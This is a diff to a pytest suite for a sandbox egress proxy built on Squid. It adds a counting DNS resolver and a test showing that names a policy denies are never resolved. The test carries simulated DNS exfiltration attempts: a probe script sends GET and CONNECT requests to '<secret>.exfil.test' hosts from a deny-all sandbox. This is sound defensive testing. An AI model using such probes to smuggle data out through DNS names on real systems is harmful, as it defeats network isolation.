@@ -3,10 +3,14 @@ sandbox (network none) -> the agent on 127.0.0.1:3128 -> the egress socket
 -> sandbox-egress-relay (PROXY v1 line with the sandbox id) -> real Squid ->
 sandbox-egress-acl (policy in Redis) -> upstreams of the test on 127.0.0.1.
 
-Names are resolved by Squid through the test's hosts file: allowed.test,
-denied.test, api.wild.test and loop.test all point at 127.0.0.1. Squid runs
-with EGRESS_ALLOW_LOOPBACK=1 (else nothing here could be reached), except in
-the case that checks the loopback refusal, which starts its own Squid.
+Names are resolved by Squid through a DNS server of the test's own (dnslib:
+on port 53 of a spare 127.53.x.y, the only nameserver of each test's Squid,
+no hosts file), which records every query: allowed.test, denied.test,
+api.wild.test, loop.test and other.test are all 127.0.0.1, every other name
+NXDOMAIN. Every test ends checking that no reverse lookup (a PTR of the
+sandbox's identity address) reached it. Squid runs with
+EGRESS_ALLOW_LOOPBACK=1 (else nothing here could be reached), except in the
+cases that check the loopback refusal.
 The base image has python3 and git but no curl: clients are python's urllib.
 """
 
@@ -26,6 +30,7 @@ import time
 import pytest
 
 from brokerlib import BUILD_DIR, free_port, http_request, wait_until
+from dnslib import CountingResolver
 from sandboxlib import docker_broker, require_docker  # noqa: F401
 
 require_docker()
@@ -125,9 +130,8 @@ class Squid:
         self.port = free_port()
         self.egress_dir = os.path.join(d, "egress")
         os.makedirs(self.egress_dir, exist_ok=True)
-        with open(os.path.join(d, "hosts"), "w") as f:
-            f.write("127.0.0.1 %s\n" % " ".join(NAMES))
-        os.chmod(os.path.join(d, "hosts"), 0o644)
+        # Squid's only resolver: it sees every name Squid looks up
+        self.resolver = CountingResolver({n: "127.0.0.1" for n in NAMES}).start()
         self.env = dict(os.environ)
         self.env.update({
             "EGRESS_SQUID_PORT": str(self.port),
@@ -135,19 +139,25 @@ class Squid:
             "EGRESS_ACL_HELPER": os.path.join(BUILD_DIR, "sandbox-egress-acl"),
             "EGRESS_PORTS": ",".join(["80", "443"] + [str(p) for p in upstream_ports]),
             "EGRESS_ALLOW_LOOPBACK": "1" if allow_loopback else "0",
-            "EGRESS_HOSTS_FILE": os.path.join(d, "hosts"),
-            "EGRESS_DNS": "127.0.0.1",
+            "EGRESS_HOSTS_FILE": "none",
+            "EGRESS_DNS": self.resolver.address,
             "REDIS_HOST": "127.0.0.1",
             "REDIS_PORT": str(redis_port),
             "REDIS_KEY_PREFIX": prefix,
             "LOG_LEVEL": "info",
         })
         self.conf = os.path.join(d, "squid.conf")
+        self.write_conf()
+        self.squid = None
+        self.relay = None
+
+    def write_conf(self, **env):
+        """(Re)write squid.conf with egress/squid-config, env updated first;
+        a running Squid reads it at its next start."""
+        self.env.update(env)
         with open(self.conf, "w") as f:
             subprocess.run([os.path.join(ROOT, "egress", "squid-config")], env=self.env,
                            stdout=f, check=True)
-        self.squid = None
-        self.relay = None
 
     def start_squid(self):
         self.squid_log = open(os.path.join(self.state, "stderr.log"), "ab")
@@ -186,6 +196,11 @@ class Squid:
             self.relay.terminate()
             self.relay.wait(10)
         self.stop_squid()
+        self.resolver.stop()
+
+    def reverse_lookups(self):
+        """The reverse (PTR, *.arpa) queries that reached the resolver."""
+        return [q for q in self.resolver.queries() if q[1] == "PTR" or q[0].endswith(".arpa")]
 
     def cache_log(self):
         try:
@@ -305,6 +320,8 @@ def egress(request, docker_broker, upstreams):
     yield factory
     for sq in made:
         sq.stop()
+        # the client address is the sandbox id: Squid never looks it up
+        assert not sq.reverse_lookups(), sq.reverse_lookups()
         # the helper and the relay under SANITIZER=: their reports go to cache.log / relay.log
         for log in (sq.cache_log(), open(os.path.join(sq.d, "relay.log"), errors="replace").read()):
             assert "AddressSanitizer" not in log and "runtime error:" not in log, log[-4000:]
@@ -642,10 +659,12 @@ def refuse(sb, lease, upstreams, tag):
 
 
 def test_squid_refusals_are_logged_once_and_counted(egress, upstreams):
-    """Squid's own refusals (port, address) reach the helper's --refusals
+    """Squid's own refusals (port, address) reach the helper's --record
     role: one record each with the sandbox, host, port, verdict and reason,
     and broker_egress_denied_total{reason=} up by exactly one each; the
-    requests are still refused and never reach an upstream."""
+    requests are still refused and never reach an upstream. The address
+    refusal is made on the name's resolved address (the resolver was asked
+    for it, after the policy said yes)."""
     sb, sq = egress(allow_loopback=False)
     lease, sid = setup_sandbox(sb, upstreams)
     set_policy(sb, sid, default="allow")  # only Squid's own refusals apply
@@ -670,8 +689,12 @@ def test_squid_refusals_are_logged_once_and_counted(egress, upstreams):
         assert recs[0]["EGRESS_VERDICT"] == "deny", recs
         for k, v in fields.items():
             assert recs[0][k] == v, (k, recs)
-    # the policy helper was never asked: no other decision of this sandbox
+    # no other record of this sandbox: the policy's yes to loop.test is not a
+    # verdict (the address check then refused it), and the port refusal came
+    # before the policy was asked
     assert len(decisions(sq, sid)) == 2, decisions(sq, sid)
+    assert ("loop.test", "A") in sq.resolver.queries(), sq.resolver.queries()
+    assert not sq.resolver.names_asked("allowed.test"), sq.resolver.queries()
     after = denied_counts(sb)
     assert after["port"] == before["port"] + 1, (before, after)
     assert after["address"] == before["address"] + 1, (before, after)
@@ -679,9 +702,10 @@ def test_squid_refusals_are_logged_once_and_counted(egress, upstreams):
 
 
 def test_squid_refusals_do_not_depend_on_the_logger(egress, upstreams):
-    """Whatever the --refusals helper answers (ERR: no match; BH: helper
-    failure), the request is refused: each deny line that asks it is
-    followed by the same line without it (egress/squid.conf.in)."""
+    """Whatever the recorder (the helper's --record role) answers on a deny
+    line (ERR: no match; BH: helper failure), the request is refused: each
+    deny line that asks it is followed by the same line without it
+    (egress/squid.conf.in)."""
     sb, sq = egress(allow_loopback=False)
     lease, sid = setup_sandbox(sb, upstreams)
     set_policy(sb, sid, default="allow")
@@ -691,17 +715,14 @@ def test_squid_refusals_do_not_depend_on_the_logger(egress, upstreams):
     wrapper = os.path.join(sq.d, "acl-wrapper")
     with open(wrapper, "w") as f:
         f.write("#!/bin/sh\n"
-                "[ \"$1\" = --refusals ] || exec %s \"$@\"\n"
+                "[ \"$1\" = --record ] || exec %s \"$@\"\n"
                 "while read -r line; do echo \"$line\" >> %s; cat %s; done\n"
                 % (os.path.join(BUILD_DIR, "sandbox-egress-acl"), asked, answer))
     os.chmod(wrapper, 0o755)
     open(asked, "w").close()
     os.chmod(asked, 0o666)
     sq.stop_squid()
-    sq.env["EGRESS_ACL_HELPER"] = wrapper
-    with open(sq.conf, "w") as f:
-        subprocess.run([os.path.join(ROOT, "egress", "squid-config")], env=sq.env, stdout=f,
-                       check=True)
+    sq.write_conf(EGRESS_ACL_HELPER=wrapper)
     for word in ("ERR", "BH message=test", "OK"):
         with open(answer, "w") as f:
             f.write(word + "\n")
@@ -719,6 +740,111 @@ def test_squid_refusals_do_not_depend_on_the_logger(egress, upstreams):
         assert len(lines) >= 2 if word.startswith("BH") else len(lines) == 2, (word, lines)
         sq.stop_squid()
     sq.start_squid()
+
+
+PROBE = r"""
+import socket, sys
+def talk(data):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+    s.sendall(data)
+    out = b""
+    while b"\r\n\r\n" not in out and len(out) < 4096:
+        b = s.recv(4096)
+        if not b: break
+        out += b
+    s.close()
+    return out.split(b"\r\n")[0].decode(errors="replace")
+# each argument: "GET <host:port>" or "CONNECT <host:port>"
+for i, a in enumerate(sys.argv[1:]):
+    method, target = a.split(" ", 1)
+    if method == "CONNECT":
+        req = "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)
+    else:
+        req = "GET http://%s/leak HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)
+    print(i, talk(req.encode()))
+"""
+
+
+def probe(sb, lease, *requests):
+    """Raw proxy requests from inside the sandbox ("GET host:port" or
+    "CONNECT host:port"), through its 127.0.0.1:3128: their status lines."""
+    r = sb.run(lease, "python3 /tmp/probe.py " + " ".join("'%s'" % q for q in requests))
+    lines = r["stdout"].splitlines()
+    assert len(lines) == len(requests), r
+    return [ln.split(" ", 1)[1] for ln in lines]
+
+
+def ptr_name(sid):
+    """The reverse-lookup name of a sandbox's identity address (its id as IPv6)."""
+    return ".".join(reversed(sid.lower())) + ".ip6.arpa"
+
+
+def test_denied_names_are_never_resolved(egress, upstreams):
+    """The policy decides before anything is resolved (issue 24): a deny-all
+    sandbox asking for http://<secret>.exfil.test/ and CONNECT
+    <secret>.exfil.test:443 (an exfiltration through DNS: the name is the
+    data) gets 403 and no query carrying the secret reaches a resolver (the
+    test's own is Squid's only one and records every query); nor does a name
+    the resolver knows, denied by the policy. Meanwhile another sandbox's
+    allowed name is resolved and fetched. No reverse lookup of either
+    sandbox's identity address reaches the resolver. Then, with loopback
+    refused: a name the policy denies that would resolve to 127.0.0.1 is a
+    policy deny and never resolved; an allowed one is resolved, then refused
+    for its address."""
+    sb, sq = egress()
+    la, a = setup_sandbox(sb, upstreams, "u1", "s1")  # the exfiltrating one: deny all
+    lb, b = setup_sandbox(sb, upstreams, "u2", "s2")  # the other: allowed.test only
+    set_policy(sb, a)
+    set_policy(sb, b, allow=["allowed.test"])
+    for lease in (la, lb):
+        assert sb.write(lease, "/tmp/probe.py", PROBE.encode()).status == 200
+    secret = "secret" + os.urandom(6).hex()
+    hp, sp = upstreams["http"], upstreams["https"]
+    leaks = ["GET %s1.exfil.test" % secret, "CONNECT %s2.exfil.test:443" % secret,
+             "GET %s3.exfil.test:%d" % (secret, hp), "CONNECT %s4.exfil.test:%d" % (secret, sp),
+             "GET denied.test:%d" % hp, "CONNECT denied.test:%d" % sp]
+    got = probe(sb, la, *leaks[:3])
+    # the other sandbox, between the attempts: its allowed name works
+    mid = fetch(sb, lb, *urls(upstreams, "allowed.test"))
+    got += probe(sb, la, *leaks[3:])
+    assert all(g.startswith("HTTP/1.1 403") for g in got), list(zip(leaks, got))
+    assert mid[0].startswith("OK 200 hello allowed.test") and \
+        mid[1].startswith("OK 200 hello allowed.test"), mid
+    # the real client (urllib through the environment's proxy) fails the same way
+    bad = fetch(sb, la, "http://%s5.exfil.test:%d/x" % (secret, hp),
+                "https://%s6.exfil.test:%d/y" % (secret, sp))
+    assert all(g.startswith("FAIL") for g in bad), bad
+    assert "/leak" not in SEEN
+
+    q = sq.resolver.queries()
+    assert not sq.resolver.names_asked(secret), q
+    assert not sq.resolver.names_asked("exfil"), q
+    assert not sq.resolver.names_asked("denied.test"), q
+    assert ("allowed.test", "A") in q, q  # resolved after the policy said yes
+    for sid in (a, b):
+        assert not sq.resolver.names_asked(ptr_name(sid)), q
+    assert not sq.reverse_lookups(), q
+
+    # each attempt is one policy deny, with the name as the sandbox wrote it
+    want = {"%s%d.exfil.test" % (secret, i) for i in range(1, 7)}
+    wait_until(lambda: want <= {r["EGRESS_HOST"] for r in decisions(sq, a, EGRESS_REASON="policy")},
+               10, desc="the policy denies recorded")
+    assert not decisions(sq, a, EGRESS_VERDICT="allow"), decisions(sq, a)
+
+    # loopback refused: the policy still comes first
+    sq.stop_squid()
+    sq.write_conf(EGRESS_ALLOW_LOOPBACK="0")
+    sq.start_squid()
+    before = len([x for x in sq.resolver.queries() if x == ("allowed.test", "A")])
+    got = probe(sb, lb, "GET loop.test:%d" % hp, "GET allowed.test:%d" % hp)
+    assert got[0].startswith("HTTP/1.1 403") and got[1].startswith("HTTP/1.1 403"), got
+    assert not sq.resolver.names_asked("loop.test"), sq.resolver.queries()
+    assert len([x for x in sq.resolver.queries() if x == ("allowed.test", "A")]) > before
+    wait_until(lambda: decisions(sq, b, EGRESS_HOST="loop.test") and
+               decisions(sq, b, EGRESS_HOST="allowed.test", EGRESS_REASON="address"), 10,
+               desc="the loopback case recorded")
+    assert [r["EGRESS_REASON"] for r in decisions(sq, b, EGRESS_HOST="loop.test")] == ["policy"]
+    assert not sq.reverse_lookups(), sq.resolver.queries()
 
 
 GET_ONE = r"""
